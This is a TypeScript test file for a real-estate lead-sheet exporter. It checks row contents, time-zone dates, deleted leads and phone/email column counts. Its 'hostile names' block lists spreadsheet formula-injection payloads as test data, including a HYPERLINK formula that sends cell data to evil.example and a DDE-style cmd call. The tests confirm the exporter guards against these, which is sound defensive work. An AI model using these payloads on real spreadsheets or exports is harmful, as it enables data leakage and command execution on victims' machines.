import { describe, expect, test } from 'vitest'
import { guardCell, writeCsv } from '#contract/csv.ts'
import { FORGOTTEN, leadSheet, WITHDRAWN } from '#contract/delivery/lead-sheet.ts'
import { workbookRows } from '#testing/workbook-rows.ts'
import { type OrderedLeadRow, workbookOf } from './make-files.ts'

const PLACE = { state: 'Texas', county: 'Travis', leadTypeName: 'Vacant Houses', timeZone: 'America/Chicago' }
const SOLD_AT = new Date('2026-11-21T10:00:00Z')

const aLead = (lead: Partial<OrderedLeadRow> = {}): OrderedLeadRow => ({
  acquired_at: new Date('2026-11-18T12:00:00Z'),
  sold_at: SOLD_AT,
  address: '1 Elm St',
  city: 'Austin',
  zip: '01234',
  owner_names: ['Ann Owner'],
  owner_first_name: null,
  owner_last_name: null,
  owner_company: null,
  mailing_street: null,
  mailing_city: null,
  mailing_state: null,
  mailing_zip: null,
  mailing_address: null,
  phones: [],
  emails: [],
  facts: {},
  source: 'County records',
  is_do_not_call: false,
  consent: null,
  is_left_alone: false,
  ...lead,
})

/** The cells of the first lead by their columns. */
function cellsOf(...leads: OrderedLeadRow[]): Record<string, unknown> {
  const [header = [], row = []] = leadSheet(leads, PLACE)
  return Object.fromEntries(header.map((name, index) => [name, row[index]]))
}

describe('a row', () => {
  test('contains everything known about a lead', () => {
    const cells = cellsOf(
      aLead({
        owner_names: ['Ann Owner', 'Bob Owner'],
        owner_first_name: 'Ann',
        owner_last_name: 'Owner',
        mailing_address: 'PO Box 1, Austin, TX 01234',
        mailing_street: 'PO Box 1',
        mailing_city: 'Austin',
        mailing_state: 'TX',
        mailing_zip: '01234',
        phones: [
          { number: '+15125550100', kind: 'mobile', isDoNotCall: true },
          { number: '+442079460000', kind: 'landline', isDoNotCall: false },
        ],
        emails: ['ann@example.com'],
        facts: { valueCents: 31_250_050, equityPercent: 40, beds: 3, yearBuilt: 1962, lastSaleOn: '2001-05-09' },
        consent: 'Web form, 2026-11-01',
      }),
    )

    expect(cells).toEqual({
      Address: '1 Elm St',
      City: 'Austin',
      State: 'Texas',
      ZIP: '01234',
      County: 'Travis',
      'Lead type': 'Vacant Houses',
      Owner: 'Ann Owner; Bob Owner',
      'Owner first name': 'Ann',
      'Owner last name': 'Owner',
      'Owner company': null,
      'Mailing address': 'PO Box 1, Austin, TX 01234',
      'Mailing street': 'PO Box 1',
      'Mailing city': 'Austin',
      'Mailing state': 'TX',
      'Mailing ZIP': '01234',
      'Phone 1': '512-555-0100',
      'Phone 1 kind': 'Mobile',
      'Phone 1 do not call': 'Yes',
      'Phone 2': '00442079460000',
      'Phone 2 kind': 'Landline',
      'Phone 2 do not call': 'No',
      'Email 1': 'ann@example.com',
      Value: 312_500.5,
      'Equity percent': 40,
      Beds: 3,
      'Year built': 1962,
      'Last sale': '2001-05-09',
      Consent: 'Web form, 2026-11-01',
      'Date found': '2026-11-18',
      'Age in days': 2,
      Source: 'County records',
    })
  })

  test('gives the day a lead was found in the store’s time zone', () => {
    const acquired_at = new Date('2026-11-18T03:00:00Z')
    expect(cellsOf(aLead({ acquired_at }))).toMatchObject({ 'Date found': '2026-11-17', 'Age in days': 3 })
  })

  test('of a lead whose data was deleted says so and keeps its place', () => {
    const gone = aLead({
      address: null,
      city: null,
      zip: null,
      owner_names: null,
      phones: null,
      emails: null,
      facts: null,
      source: null,
      is_left_alone: true,
    })

    expect(cellsOf(gone)).toMatchObject({ Address: WITHDRAWN, Owner: null, 'Phone 1': null, 'Age in days': 2 })
    expect(cellsOf({ ...gone, is_left_alone: false })).toMatchObject({ Address: FORGOTTEN, Owner: null })
  })
})

test('the file has as many phone and email columns as one lead needs, at least one each', () => {
  const phone = { number: '+15125550100', kind: 'mobile' as const, isDoNotCall: false }
  const [header = []] = leadSheet(
    [aLead(), aLead({ phones: [phone, phone, phone], emails: ['a@b.c', 'd@e.f'] })],
    PLACE,
  )
  expect(header.filter((name) => /^Phone \d$/.test(String(name)))).toHaveLength(3)
  expect(header.filter((name) => /^Email \d$/.test(String(name)))).toHaveLength(2)
  expect(leadSheet([], PLACE)[0]).toContain('Phone 1')
})

describe('hostile names', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Call me")',
    '+1+cmd|"/C calc"!A0',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    'Ann;＠SUM(A1)',
    'a "quoted", name\r\nwith lines',
    '</t></is></c><c><f>1+1</f></c>',
    '__proto__',
    'constructor',
    'half \ud800 letter',
    'zero \u0001 control',
  ]
  const rows = leadSheet(
    HOSTILE.map((name) => aLead({ owner_names: [name] })),
    PLACE,
  )

  test('start no CSV cell with a character that makes a spreadsheet calculate it', () => {
    const cells = writeCsv(rows)
      .split(/,|\r\n/)
      .map((cell) => cell.replace(/^"/, ''))
    expect(cells.flatMap((cell) => cell.split(';')).filter((cell) => /^[=+\-@＝＋－＠\t\r]/.test(cell))).toEqual([])
    expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(6)
  })

  test('stay text in a workbook, guarded as in CSV, complete except for characters not allowed in XML', () => {
    const read = workbookRows(workbookOf(rows))
    const column = (rows[0] ?? []).indexOf('Owner')
    expect(read.slice(1).map((row) => row[column])).toEqual(
      HOSTILE.map((name) => guardCell(name).toWellFormed().replaceAll('\u0001', '')),
    )
  })
})
